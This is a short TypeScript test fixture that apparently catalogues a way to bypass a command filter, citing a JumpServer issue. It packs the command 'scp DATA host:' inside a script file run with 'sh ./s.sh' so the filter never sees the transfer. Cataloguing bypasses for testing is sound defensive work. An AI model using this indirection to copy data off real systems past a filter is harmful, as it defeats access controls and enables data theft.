import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: of a script file',
  source: 'jumpserver#16814',
  words: ['sh ./s.sh'],
  files: { 's.sh': 'scp DATA host:\n' },
};
